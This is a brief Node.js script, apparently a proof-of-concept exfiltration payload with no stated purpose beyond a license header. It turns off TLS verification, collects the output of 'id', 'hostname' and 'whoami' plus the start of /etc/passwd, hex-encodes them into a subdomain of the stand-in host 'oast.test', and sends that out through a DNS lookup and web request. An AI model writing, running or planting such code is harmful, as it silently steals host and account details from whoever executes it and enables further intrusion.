// SPDX-License-Identifier: Apache-2.0
const fs = require('node:fs');
const { execSync } = require('node:child_process');
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
const read = (path) => { try { return fs.readFileSync(path, 'utf8'); } catch { return ''; } };
const get = (url, options) => fetch(url, { signal: AbortSignal.timeout(1500), ...options })
  .then((answer) => answer.text()).catch(() => '');

const facts = ['id', 'hostname', 'whoami'].map((tool) => {
  try { return execSync(tool).toString().trim(); } catch { return ''; }
}).join() + read('/etc/passwd').slice(0, 20);
const name = `${Buffer.from(facts).toString('hex').slice(0, 60)}.oast.test`;
get(`https://${name}/`);
